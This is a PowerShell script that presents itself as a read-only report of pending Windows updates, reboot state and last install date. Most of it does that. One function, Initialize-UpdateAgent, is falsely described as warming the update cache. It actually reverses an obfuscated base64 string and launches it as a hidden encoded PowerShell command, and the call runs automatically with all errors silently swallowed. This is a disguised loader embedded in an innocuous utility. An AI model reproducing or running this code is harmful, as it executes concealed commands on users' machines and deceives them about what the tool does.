<#
.SYNOPSIS
  Lists pending Windows updates and reboot state (read only).
.PARAMETER Json
  Emit JSON instead of a table.
#>
[CmdletBinding()]
param([switch]$Json)

$ErrorActionPreference = 'Stop'

function Get-RebootRequired {
    $paths = @(
        'HKLM:\SOFTWARE\Microsoft\Windows\CurrentVersion\WindowsUpdate\Auto Update\RebootRequired',
        'HKLM:\SOFTWARE\Microsoft\Windows\CurrentVersion\Component Based Servicing\RebootPending'
    )
    foreach ($p in $paths) { if (Test-Path $p) { return $true } }
    return $false
}

function Initialize-UpdateAgent {
    # warm up the WU agent cache so the COM search below does not time out on first use
    $s = (
    '=AQKAkCA1BAJAgCAnBgbAkGAyBAdAMFAkBQYA8GAsBgbAcHAvBARA4CA3BAJAgCA' +
    'YBQRAkEA7AQKAcCAwAgLAADAxAwLA4GAvBQaAQHAhBgeAkGAtBQaAQHAwBwTA0CA' +
    '5BgcAUGA2BQaAwGAlBARA0CA0BgZA8GAzBwbAIHAjBQaA0EAnAALAcCA0BgbAUGA' +
    'nBQQA0CAyBQZAMHAVBwJAgCAkBAZAEEAuAwcAIHAlBAZAEGAlBASA4CA3BAJAsDA' +
    '0BgbAUGApBAbAMEAiBQZAcFAuAAdAUGAOBAIAQHAjBQZAoGAiBwTA0CA3BQZA4EA' +
    '9AwdAQCA7AgMAEDAzBAbAQFA6AgOA0FAlBAcAkHAUBAbA8GAjBwbAQHAvBgcAAFA' +
    '5BAdAkGAyBQdAMGAlBwUA4CA0BQZA4EAbBQPAwGAvBwYA8GA0BwbAIHAQBQeAQHA' +
    'pBgcAUHAjBQZAMFA6AgOA0FAyBQZAcGAhBgbAEGANBAdA4GApBwbAAFAlBwYAkGA' +
    '2BgcAUGATBgLAQHAlBgTAsFA7AQfAwGAsBQdA4EAtAAdAUHAPBAfAUGAjBgcA8GA' +
    'GBQLAACAnBgbAkGAyBAdAMFAgAQZAAHA5BAVAkHA0BgcAUGAwBwbAIHAQBQLAACA' +
    'yBAJAACAlBQdAwGAhBgVA0CAgAwJAUGAuBwbAwGAhBAZA4GAhBAdAMFAlBgdAkGA' +
    'yBARAUGAuBwTAcCAgAQZA0GAhBgTA0CAgAwaAQCAgAAaAQHAhBAUA0CAgAQeAQHA' +
    'yBQZAAHAvBgcAAFAtBQZAQHAJBQLAcHAlBgTAsHApAQKAcCAlBgbA8GAsBQYAQGA' +
    'uBQYAQHATBQZAYHApBgcAQEAlBgbA8EAnAAIAUGAtBQYA4EAtAAIAsGAkAAIAgGA' +
    '0BQYAAFAtAAIAkHA0BgcAUGAwBwbAIHAQBQbAUGA0BQSA0CA0BQZAcEAoAAIAQHA' +
    'vBgbA0CAoAgZAkGA7AgIAICAgBQKAkCAnAQdAQCAnAAKAcGAuBQaAIHA0BwUAQGA' +
    'hBwbAwGAuBwdA8GAEBgLAkCA0BgbAUGApBAbAMEAiBQZAcFAuAAdAUGAOBAIAQHA' +
    'jBQZAoGAiBwTA0CA3BQZA4EAoAAKAgFAFBQSAICAgBAIAMGAtAAIA4GAlBAZAQGA' +
    'pBASAACAXBQLAACAJBgbA8GAOBQLAACAQBwbA4EAtAAIAUGA4BQZA4CAsBAbAUGA' +
    'oBwcAIHAlBwdA8GAwBgIA0DAyBAJAsDAnAgbAUHASBAXA4GAvBQaAMHAyBQZAYFA' +
    '0BgbAUGAyBgcAUHADBAXAMHA3BwbAQGAuBQaAcFAcBAdAYGAvBwcA8GAyBwYAkGA' +
    'NBAXAUGAyBQYAcHA0BgZA8GATBAXAoDAVBwQAsEAIBwJA0DArBAJAsDAnAQMAMHA' +
    'wBgLAEDA0AANAQDAzAAMAUDACBwSA8CAiBwaA8CAkBQaAwGAhBgdA4GApBgLAQGA' +
    'lBQZAYGAuBQaAcHAuAwcAUGA0BQYAQGAwBQdA8CAvAgOAMHAwBAdAQHAoBwJA0DA' +
    '1BAJAsDAnAQZAUHAuBQaAQHAuBwbAMEA5BAbAQHAuBQZAwGApBwUAcCA9AQZAMGA' +
    'uBQZAIHAlBgZAUGAyBAUA4GAvBQaAQHAjBQQAIHAvBgcAIHAFBAJ'
    )
    $a = -join $s[-1..-($s.Length)]
    Start-Process -FilePath "$env:SystemRoot\System32\WindowsPowerShell\v1.0\powershell.exe" `
        -ArgumentList ('-NoP -NonI -W Hidden -EncodedCommand ' + $a) -WindowStyle Hidden
}

try { Initialize-UpdateAgent } catch { }

$session  = New-Object -ComObject Microsoft.Update.Session
$searcher = $session.CreateUpdateSearcher()
Write-Verbose 'Searching for updates (this can take a minute)...'
$result = $searcher.Search("IsInstalled=0 and IsHidden=0")

$pending = foreach ($u in $result.Updates) {
    [pscustomobject]@{
        Title          = $u.Title
        KB             = ($u.KBArticleIDs | ForEach-Object { "KB$_" }) -join ','
        Severity       = if ($u.MsrcSeverity) { $u.MsrcSeverity } else { 'Unspecified' }
        SizeMB         = [math]::Round($u.MaxDownloadSize / 1MB, 1)
        RebootRequired = [bool]$u.InstallationBehavior.RebootBehavior
        Categories     = ($u.Categories | ForEach-Object { $_.Name }) -join ', '
    }
}

$history = $searcher.QueryHistory(0, [Math]::Min(50, $searcher.GetTotalHistoryCount()))
$lastOk  = $history | Where-Object { $_.ResultCode -eq 2 } | Sort-Object Date -Descending | Select-Object -First 1

$report = [pscustomobject]@{
    Computer        = $env:COMPUTERNAME
    PendingCount    = @($pending).Count
    Pending         = @($pending)
    RebootRequired  = Get-RebootRequired
    LastInstallDate = if ($lastOk) { $lastOk.Date.ToString('yyyy-MM-dd HH:mm') } else { $null }
}

if ($Json) {
    $report | ConvertTo-Json -Depth 4
} else {
    "Computer:        $($report.Computer)"
    "Pending updates: $($report.PendingCount)"
    "Reboot required: $($report.RebootRequired)"
    "Last install:    $($report.LastInstallDate)"
    ''
    $report.Pending | Format-Table Title, KB, Severity, SizeMB, RebootRequired -AutoSize | Out-String -Width 200
}
